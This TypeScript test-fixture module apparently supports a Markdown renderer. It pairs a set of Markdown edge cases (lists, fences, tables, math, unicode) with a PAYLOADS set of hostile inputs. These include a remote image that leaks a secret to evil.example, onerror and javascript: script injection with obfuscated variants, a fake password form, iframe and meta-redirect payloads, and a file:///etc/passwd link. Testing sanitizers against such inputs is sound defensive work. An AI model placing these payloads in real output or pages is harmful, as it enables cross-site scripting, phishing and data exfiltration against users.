/** Markdown of many shapes, for whatever must hold for all of it. */

export const SAMPLES: Readonly<Record<string, string>> = {
  paragraphs: "One line\nand another.\n\nA second paragraph.\n\n\n\nA third.",
  headings:
    "# One\n\n## Two\ntext\n### Three ###\n\nSetext\n===\n\nAgain\n---\n\n#not one\n\npara\n#hash\n# yes",
  lists:
    "- a\n- b\n  - c\n    - d\n- e\n\ntext\n\n1. one\n2. two\n\n3. three\n\n   more of three\n\n* other\n+ more\n\n- [ ] to do\n- [x] done\n",
  "loose list then text": "- a\n\n- b\n\n\n- c\n\nEnd.\n\n1) x\n2) y\n10) z",
  "numbers that are no list": "In\n1985. It was good.\n\n2. Then a list\n\n3",
  fences:
    "Look:\n\n```python\ndef f():\n\n    return '```'\n```\n\n~~~\nplain\n~~~~\n\n````md\n```\ninner\n```\n````\nafter",
  "fence that is inline": "para\n```not`a fence\nmore\n\nend",
  "unclosed fence": "text\n\n```js\nlet a = 1;\n\nlet b = 2;\n",
  "fence in a list": "1. first\n   ```bash\n   ls\n\n   pwd\n   ```\n2. second\n\n- x\n\n      indented\n",
  indented: "text\n\n    code\n\n    more\n\ntext again\n    not code",
  quotes: "> one\n> two\nlazy\n\n> > deep\n> back\n\n> - list\n> - in quote\n\nend",
  tables:
    "before\n\n| a | b |\n| --- | :-: |\n| 1 | `x|y` |\n| **2** | |\nafter\n\na | b\n--|--\n1 | 2\n\nend",
  "almost a table": "a | b\nc | d\n\n| x |\n| y |\n",
  html: "<div>\n<b>x</b>\n\n</div>\n\ntext <br> more <i>x</i>\n\n<!-- note\n\nstill -->\n\n<details><summary>s</summary>\n\nbody\n</details>\n\npara\n<div class='x'>\ny",
  rules: "a\n\n---\n\nb\n***\nc\n\n- - -\n\n_ _ _",
  "inline markup":
    "**bold** *em* ***both*** __b__ _e_ ~~del~~ `code` ``a`b`` \\*no\\* [l](http://a.b) <http://a.b> http://c.d ![i](http://e.f/g.png)",
  "snake case": "the_snake_case and 2*3*4 and a * b * c and __init__ and **2** ** x",
  "nested emphasis": "**a *b* c** and *a **b** c* and **a `*` b** and ~~a **b**~~",
  references:
    "See [one] and [two][2] and ![pic][3].\n\n[one]: http://a.b 'title'\n[2]: <http://c.d>\n\nThen [one] again.\n\n[3]: http://e.f/i.png\n",
  formulas:
    "Inline \\(a_1 + b_2\\) and $$x_1 * y * z$$ and $5 and $6.\n\n$$\n\\int_0^1 a_i \\,\n+ b\n$$\n\n\\[\nx = 1\n\\]\nafter\ntext:\n$$\n- y\n$$ tail\n\n$$\nopen\n\nclosed by the empty line",
  entities: "&amp; &lt;b&gt; &copy; &#65; &#x42; &nope; &",
  "carriage returns": "a\r\nb\r\n\r\n- c\r\n- d\r\n\rend\r",
  unicode: "Größe 👩‍👩‍👧 **日本語** مرحبا\n\n- 项目一\n- 项目二\n\n한국어 *강조*",
  "one long line": `${"word ".repeat(200)}**end**`,
  "answer of a model":
    "Sure! Here's how:\n\n1. **Install** it:\n\n   ```bash\n   pip install x\n   ```\n\n2. **Use** it\n   - with `a`\n   - or `b`\n\n| Option | Meaning |\n|---|---|\n| `-v` | *verbose* |\n\n> Note: see [docs](https://example.org/a_b_c).\n\n### Next\n\nDone.",
};

/** Text that attacks whoever shows it as HTML, follows its links, or loads its images. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  "remote image": "![](https://evil.example/?leak=secret)",
  "reference image": "![a][x]\n\n[x]: https://evil.example/i.png",
  "image in a link": "[![a](https://evil.example/i.png)](https://evil.example)",
  "img tag": '<img src="https://evil.example/i.png" onerror="alert(1)">',
  "img tag inline": "text <img src=x onerror=alert(1)> text",
  "style url": '<div style="background:url(https://evil.example/b)">x</div>',
  video: '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
  "svg image": '<svg><image href="https://evil.example/i.svg" /></svg>',
  form: '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  "javascript link": "[x](javascript:alert(1))",
  "javascript link in disguise":
    "[x](  jAvAsCrIpT&colon;alert(1)) [y](java\nscript:alert(1)) [z](<javascript:alert(1)>)",
  "vbscript link": "[x](vbscript:msgbox(1))",
  "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "file link": "[x](file:///etc/passwd)",
  "relative link": "[x](/api/contents) [y](../files/secret) [z](//evil.example/x) [w](#frag)",
  "javascript autolink": "<javascript:alert(1)>",
  "svg data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "html data image": "![x](data:text/html,<script>alert(1)</script>)",
  "image attributes": '![a" onerror="alert(1)](https://evil.example/i.png "t\\" onload=alert(1)")',
  script: "<script>alert(1)</script>",
  iframe: '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  "base and meta":
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  "link tag": '<link rel="stylesheet" href="https://evil.example/s.css">',
  "code language": '```python" onmouseover="alert(1)\nprint(1)\n```',
  "code body": "```html\n</code></pre><script>alert(1)</script>\n```",
  "table cell": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "html in a heading": "# <img src=x onerror=alert(1)>",
  math: "\\(\\href{javascript:alert(1)}{x}\\) $$\n<img src=x onerror=alert(1)>\n$$",
};
